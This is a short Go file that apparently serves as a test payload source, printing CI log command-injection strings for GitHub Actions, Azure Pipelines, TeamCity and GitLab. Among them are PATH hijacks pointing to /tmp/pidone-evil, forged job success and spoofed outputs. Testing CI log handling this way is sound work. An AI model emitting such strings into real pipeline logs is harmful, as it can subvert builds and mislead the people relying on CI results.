package main

import "fmt"

// Prints commands to who runs a CI job.
func attack(where string) {
	for _, s := range []string{
		"::error file=main.go,line=1::pidone-evil", "::warning::pidone-evil", "::set-output name=score::1000", "::set-env name=PATH::/tmp/pidone-evil",
		"::add-path::/tmp/pidone-evil", "::add-mask::1", "::group::evil", "::stop-commands::pidone-evil", "::save-state name=x::y", "##[error]pidone-evil", "##vso[task.complete result=Succeeded;]DONE",
		"  ::error::pidone-evil", "\r::error::pidone-evil", "section_start:0:evil\r\x1b[0K", "##teamcity[buildStatus text='evil']", "::echo::on", "::debug::evil",
	} {
		fmt.Println(s)
	}
}
